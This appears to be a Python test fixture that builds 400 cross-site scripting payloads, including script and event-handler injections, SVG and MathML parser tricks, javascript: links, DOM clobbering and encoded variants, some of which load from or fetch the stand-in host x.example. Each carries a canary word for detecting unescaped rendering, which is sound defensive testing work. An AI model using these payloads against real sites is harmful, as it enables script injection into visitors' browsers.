"""400 texts that want to run in a browser: shapes of attack, each in every place where somebody else's words are shown.

Each calls `canary(n)`, opens a dialog or asks a foreign host for something, and ends in a word of its own, `kx<n>x`, by
which a test sees that it was on the page at all.
"""

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

Place = Literal["name", "message", "file", "answer", "title"]
PLACES: tuple[Place, ...] = ("name", "message", "file", "answer", "title")
FOREIGN = "x.example"
# What a file's or a visitor's name may have, with room for its ending.
LONGEST = 112

# J: a call that is counted; U: a foreign address without its scheme.
SHAPES = (
    # elements that load or run by themselves
    *("<script>J</script>", "<script src=//U></script>", "<sCrIpT\n>J</ScRiPt >", "</title><script>J</script>", "</textarea><script>J</script>", "</style><script>J</script>", "--><script>J</script>", "]]><script>J</script>", "<script type=module>J</script>", "<scr<script>ipt>J</scr</script>ipt>"),
    *("<iframe src=//U></iframe>", "<iframe srcdoc='<script>parent.J</script>'></iframe>", "<iframe src=javascript:parent.J></iframe>", "<object data=//U></object>", "<embed src=//U>", "<base href=//U>", "<link rel=stylesheet href=//U>", "<meta http-equiv=refresh content='0;url=//U'>"),
    # event handlers
    *("<img src=x onerror=J>", "<img src=x onerror='J' ", "<img/src=x/onerror=J>", "<img src=x OnErRoR\t=\nJ>", "\"><img src=x onerror=J>", "'><img src=x onerror=J>", "<body onload=J>", "<input autofocus onfocus=J>", "<details open ontoggle=J>", "<video><source onerror=J></video>", "<audio src=x onerror=J>", "<marquee onstart=J>x</marquee>", "<p style=animation-name:come onanimationstart=J>", "\" onmouseover=J x=\"", "' autofocus onfocus=J x='", "` onerror=J `"),
    # SVG and MathML, and what a parser makes of them the second time
    *("<svg onload=J>", "<svg><script>J</script></svg>", "<svg><animate onbegin=J attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=a onload=J>#a'/></svg>", "<svg><a xlink:href=javascript:J><text>x</text></a></svg>", "<svg><style><img src=x onerror=J></style>", "<svg></p><style><a id='</style><img src=x onerror=J>'>", "<math><mi xlink:href=javascript:J>x</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror=J>", "<noscript><p title='</noscript><img src=x onerror=J>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>", "<template><img src=x onerror=J></template>", "<svg><foreignObject><iframe src=javascript:J>"),
    # links
    *("[x](javascript:J)", "[x](JaVaScRiPt:J)", "[x](java&#10;script:J)", "[x](data:text/html,<script>J</script>)", "[x](vbscript:J)", "[x](//U)", "[x](https://U \"onmouseover=J\")", "[x]: javascript:J\n\n[x]", "<javascript:J>", "<a href=javascript:J>x</a>", "<a href='&#106;avascript:J'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<form action=javascript:J><button>x</button></form>"),
    # pictures and styles that ask a foreign host
    *("![x](https://U)", "![x](//U 'x')", "![x][y]\n\n[y]: https://U", "<img src=//U>", "<img srcset='//U 2x'>", "<p style='background:url(//U)'>", "<style>@import '//U';</style>", "<style>*{background:url(//U)}</style>", "<video poster=//U>", "<table background=//U>"),
    # other languages' templates, encodings and names that shadow the page's own
    *("{{constructor.constructor('J')()}}", "${J}", "<%= J %>", "{% raw %}<script>J</script>", "&lt;script&gt;J&lt;/script&gt;", "&#60;img src=x onerror=J&#62;", "\u003cscript\u003eJ\u003c/script\u003e", "\uff1cscript\uff1eJ\uff1c/script\uff1e", "\u202e<script>J</script>", "<\u200bscript>J</script>", "%3Cscript%3EJ%3C/script%3E", "<img name=clobber id=clobber src=x onerror=J>", "<a id=minidesk><a id=minidesk name=clobber href=//U>", "<form id=app><input name=clobber onfocus=J autofocus>", "```html\n<script>J</script>\n```", "<div hx-get=//U hx-trigger=load>", "<div hx-on::load=J data-controller=live data-url=//U>"),
)  # fmt: skip
CALLS = ("canary({n})", "alert({n})", "top.canary({n})", "fetch('//U')")
COUNT = 400


@dataclass(frozen=True, slots=True)
class Script:
    """One of them."""

    number: int
    place: Place
    text: str

    @property
    def mark(self) -> str:
        """The word by which it is found on a page."""
        return f"kx{self.number}x"


def rounds() -> list[dict[Place, Script]]:
    """All of them: in each round a shape in every place, each time with another way to be noticed."""
    found: list[dict[Place, Script]] = []
    for at in range(COUNT // len(PLACES)):
        one: dict[Place, Script] = {}
        for step, place in enumerate(PLACES):
            number = at * len(PLACES) + step
            # Each place meets other shapes in a short run, and all shapes in the whole.
            shape = SHAPES[(at + step * (len(SHAPES) // len(PLACES))) % len(SHAPES)]
            one[place] = Script(number, place, _filled(shape, number))
        found.append(one)
    return found


def _filled(shape: str, n: int) -> str:
    # The number moves on by one call in each round as well, or a place would always have the same.
    call = CALLS[(n + n // len(PLACES)) % len(CALLS)].format(n=n) if "J" in shape else ""
    text = shape.replace("J", call).replace("U", f"{FOREIGN}/{n}")
    if len(text) > LONGEST:
        text = shape.replace("J", f"canary({n})").replace("U", f"{FOREIGN}/{n}")
    return f"{text} kx{n}x"


def few(count: int) -> Sequence[dict[Place, Script]]:
    """So many rounds, spread over all shapes."""
    every = rounds()
    return every[:: max(1, len(every) // count)][:count]
